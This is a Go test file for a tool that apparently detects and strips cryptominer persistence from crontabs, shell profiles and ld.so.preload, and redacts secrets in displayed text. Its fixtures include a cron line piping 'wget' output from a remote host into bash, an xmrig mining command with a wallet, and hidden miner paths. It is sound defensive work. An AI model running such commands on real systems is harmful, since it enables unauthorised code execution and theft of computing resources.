package source

import (
	"os/exec"
	"strings"
	"testing"

	"github.com/minewarden/minewarden/responders/internal/edit"
)

func TestMinerLine(t *testing.T) {
	f := &facts{paths: []string{"/var/tmp/.x/miner", "/opt/app/xm"}}
	for _, tt := range []struct {
		line  string
		texts []string
		want  bool
	}{
		{line: "* * * * * /opt/app/xm --once", want: true},
		{line: "* * * * * /opt/app/xm-backup --once"},
		{line: "* * * * * /srv/opt/app/xm --once"},
		{line: "* * * * * cd /opt/app/ && ./run"},
		{line: "# * * * * * /opt/app/xm"},
		{line: "0 0 * * * root apt-get update"},
		{line: "0 0 * * * root certbot renew --quiet"},
		{line: "*/9 * * * * wget -qO- http://198.51.100.7/i.sh | bash", want: true},
		{line: "0 1 * * * curl -fsS https://hc-ping.example.org/abc"},
		{line: "0 1 * * * /usr/bin/borg create ::x /home"},
		{line: "@daily xmrig -o stratum+tcp://pool.example:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD", want: true},
		{line: "something odd here", texts: []string{"something odd here and more that was cut"}, want: true},
		{line: "short", texts: []string{"shorter than eight bytes: short"}},
		{line: "x", texts: []string{""}},
		{line: "ssh-rsa AAAAB3 evil@host", texts: []string{"…AAAAB3 evil@host"}, want: true},
		{line: "ssh-rsa AAAAB3 good@host", texts: []string{"…AAAAB3 evil@host"}},
		{line: ""},
	} {
		if got := f.minerLine(tt.line, claim{texts: tt.texts}); got != tt.want {
			t.Errorf("minerLine(%q, %q) = %v", tt.line, tt.texts, got)
		}
	}
}

// TestShellStaysShell takes lines out of shell text; a real shell says whether what is left can be read.
func TestShellStaysShell(t *testing.T) {
	shell, err := exec.LookPath("sh")
	if err != nil {
		t.Skip(err)
	}
	const evil = "/var/tmp/.x/miner"
	f := &facts{paths: []string{evil}}
	for name, text := range map[string]string{
		"plain":        "a=1\nE &\nb=2\n",
		"only":         "E\n",
		"if":           "if [ -x E ]; then\n  E &\nfi\n",
		"if else":      "if true; then\n  E\nelse\n  E\nfi\n",
		"two in a row": "if true; then\n  E\n  E -x\nfi\n",
		"with comment": "if true; then\n  E\n  # why\n  E -x\nfi\n",
		"loop":         "for i in 1 2; do\n\tE $i\ndone\n",
		"while":        "while true\ndo\n\tE\ndone &\n",
		"function":     "f() {\n  E\n}\n",
		"case":         "case $- in\n*i*)\n  E ;;\nesac\n",
		"one line":     "if true; then E; fi\necho ok\n",
		"continued":    "E \\\n --x \\\n --y\necho ok\n",
		"subshell":     "(\n E\n)\n",
		"quoted":       "echo 'x\nE\n'\n",
		"no end":       "echo ok\nE",
	} {
		t.Run(name, func(t *testing.T) {
			data := []byte(strings.ReplaceAll(text, "E", evil))
			hunks, byHand := f.minerHunks(spotProfile, data, claim{})
			after, _, err := edit.Apply(data, hunks)
			if err != nil {
				t.Fatal(err)
			}
			cmd := exec.Command(shell, "-n")
			cmd.Stdin = strings.NewReader(string(after))
			if out, err := cmd.CombinedOutput(); err != nil {
				t.Errorf("the shell cannot read what is left: %v %s\n%s", err, out, after)
			}
			if len(hunks) == 0 && !byHand {
				t.Errorf("nothing was taken out of\n%s", data)
			}
		})
	}
}

func TestPreload(t *testing.T) {
	f := &facts{paths: []string{"/dev/shm/.x/lib.so"}}
	for _, tt := range []struct {
		text, want string
		texts      []string
	}{
		{"/dev/shm/.x/lib.so\n", "", nil},
		{"/dev/shm/.x/lib.so /usr/lib/ok.so\n", "/usr/lib/ok.so\n", nil},
		{"/usr/lib/ok.so:/dev/shm/.x/lib.so\n", "/usr/lib/ok.so\n", nil},
		{"/usr/lib/ok.so\n", "/usr/lib/ok.so\n", nil},
		{"/usr/lib/bad.so\n/usr/lib/ok.so\n", "/usr/lib/ok.so\n", []string{"/usr/lib/bad.so"}},
		{"# note\n/usr/lib/bad.so", "# note\n", []string{"/usr/lib/bad.so"}},
	} {
		hunks, _ := f.minerHunks(spotPreload, []byte(tt.text), claim{texts: tt.texts})
		got, _, err := edit.Apply([]byte(tt.text), hunks)
		if err != nil || string(got) != tt.want {
			t.Errorf("%q: %q, %v, want %q", tt.text, got, err, tt.want)
		}
	}
}

func TestShow(t *testing.T) {
	for in, want := range map[string]string{
		"export AWS_SECRET_ACCESS_KEY=abc":       "export AWS_SECRET_ACCESS_KEY=[hidden]",
		"curl -H 'Authorization: Bearer abc' x":  "curl -H 'Authorization: Bearer [hidden] x",
		"git clone https://bob:pw@example.org/r": "git clone https://[hidden]@example.org/r",
		"\x1b[2Jrm\x07":                          "\uFFFD[2Jrm\uFFFD",
		"PATH=/bin":                              "PATH=/bin",
		`{"password": "hunter2", "x": 1}`:        `{"password": [hidden], "x": 1}`,
		"abc\u202etxt":                           "abc\uFFFDtxt",
	} {
		if got := show(in); got != want {
			t.Errorf("show(%q) = %q, want %q", in, got, want)
		}
	}
}

func FuzzMinerHunks(f *testing.F) {
	f.Add("if true; then\n /var/tmp/.x/miner\nfi\n", "/var/tmp/.x/miner", byte(spotProfile))
	f.Add("/a:/b /c\n", "/b", byte(spotPreload))
	f.Fuzz(func(t *testing.T, text, evidence string, is byte) {
		fa := &facts{paths: []string{"/var/tmp/.x/miner"}}
		hunks, _ := fa.minerHunks(spot(is%9), []byte(text), claim{texts: []string{evidence}})
		after, back, err := edit.Apply([]byte(text), hunks)
		if err != nil {
			t.Fatal(err)
		}
		again, _, err := edit.Apply(after, back)
		if err != nil || string(again) != text {
			t.Errorf("%q came back as %q, %v", text, again, err)
		}
		show(text)
	})
}
